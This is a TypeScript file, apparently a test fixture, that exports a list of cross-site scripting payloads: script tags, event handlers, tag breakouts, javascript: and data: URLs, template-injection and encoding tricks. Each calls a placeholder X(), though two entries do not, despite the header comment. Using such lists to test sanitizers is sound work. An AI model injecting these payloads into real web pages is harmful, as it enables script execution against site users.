/** Texts that call `X()` if a page interprets text as markup, an address or a script; at most 58 characters each. */
export const PAYLOADS: readonly string[] = [
  ...['<script>X()</script>', '<img src=x onerror=X()>', '<svg onload=X()>', '<svg/onload=X()//', '<body onload=X()>'],
  ...[
    '"><script>X()</script>',
    "'><img src=x onerror=X()>",
    '"><svg onload=X()>',
    '" autofocus onfocus=X() x="',
    "' onmouseover=X() x='",
  ],
  ...[
    '</title><script>X()</script>',
    '</textarea><svg onload=X()>',
    '</style><img src=x onerror=X()>',
    '</script><script>X()</script>',
  ],
  ...[
    '<iframe srcdoc="<script>parent.X()</script>">',
    '<iframe src=javascript:parent.X()>',
    '<object data=javascript:X()>',
  ],
  ...[
    '<a href=javascript:X()>a</a>',
    'javascript:X()',
    'JaVaScRiPt:X()',
    'java\tscript:X()',
    'data:text/html,<script>X()</script>',
  ],
  ...[
    '<details open ontoggle=X()>',
    '<input autofocus onfocus=X()>',
    '<video><source onerror=X()>',
    '<audio src=x onerror=X()>',
  ],
  ...[
    '<marquee onstart=X()>',
    '<math><mi xlink:href=javascript:X()>',
    '<form><button formaction=javascript:X()>',
    '<base href=javascript:X()//>',
  ],
  ...[
    '<meta http-equiv=refresh content=0;javascript:X()>',
    '<link rel=stylesheet href=data:,*{}>',
    '<style>@import"data:,"</style>',
  ],
  ...['{{constructor.constructor("X()")()}}', '${X()}', '#{X()}', '<%= X() %>', '<template><img src=x onerror=X()>'],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=X()>">',
    '&lt;img src=x onerror=X()&gt;',
    '<ımg src=x onerror=X()>',
  ],
  ...[
    '\u202e<img src=x onerror=X()>',
    '<img src=x\u00a0onerror=X()>',
    '<!--><img src=x onerror=X()>',
    ']]><img src=x onerror=X()>',
  ],
];
